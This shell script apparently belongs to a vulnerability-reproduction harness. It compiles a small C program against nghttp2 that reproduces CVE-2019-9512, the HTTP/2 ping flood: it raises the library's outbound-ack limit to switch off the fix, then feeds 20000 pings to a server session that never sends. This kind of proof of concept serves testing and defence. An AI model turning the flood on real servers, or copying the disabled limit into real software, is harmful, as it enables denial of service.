#!/bin/sh
# SPDX-License-Identifier: MIT
# owner: session nghttp2_outbound_item
# source: https://nvd.nist.gov/vuln/detail/CVE-2019-9512: a peer that sends pings and reads no answers makes the queue of answers grow. The limit
#         of the fix is taken back with the library's own option.
. "$(dirname "$0")/lib"
source_of nghttp2 nghttp2 || true
lib=$PACKAGES/nghttp2/lib
mkdir nghttp2
cp "$lib/includes/nghttp2/nghttp2.h" nghttp2
sed 's/@PACKAGE_VERSION@/1/; s/@PACKAGE_VERSION_NUM@/1/' "$lib/includes/nghttp2/nghttp2ver.h.in" >nghttp2/nghttp2ver.h
cat >flood.c <<'END'
#include <nghttp2/nghttp2.h>

static nghttp2_session *session;

static ssize_t refuse(nghttp2_session *to, const uint8_t *data, size_t bytes, int flags, void *user)
{
	return NGHTTP2_ERR_WOULDBLOCK;
}

int main(void)
{
	static const uint8_t ping[17] = {0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8};
	static const uint8_t settings[9] = {0, 0, 0, 4};
	nghttp2_session_callbacks *callbacks;
	nghttp2_option *option;

	nghttp2_session_callbacks_new(&callbacks);
	nghttp2_session_callbacks_set_send_callback(callbacks, refuse);
	nghttp2_option_new(&option);
	nghttp2_option_set_max_outbound_ack(option, 1 << 30);
	nghttp2_session_server_new2(&session, callbacks, NULL, option);
	nghttp2_submit_settings(session, NGHTTP2_FLAG_NONE, NULL, 0);
	nghttp2_session_mem_recv(session, (const uint8_t *)NGHTTP2_CLIENT_MAGIC, NGHTTP2_CLIENT_MAGIC_LEN);
	nghttp2_session_mem_recv(session, settings, sizeof settings);
	for (int i = 0; i < 20000; i++)
		if (nghttp2_session_mem_recv(session, ping, sizeof ping) < 0 || nghttp2_session_send(session) < 0)
			return 1;
	return 0;
}
END
gcc -O1 -g -w -DNGHTTP2_STATICLIB -DHAVE_ARPA_INET_H -DHAVE_NETINET_IN_H -DHAVE_TIME_H -D_GNU_SOURCE -I. -I"$lib" -o flood flood.c "$lib"/*.c
record ./flood
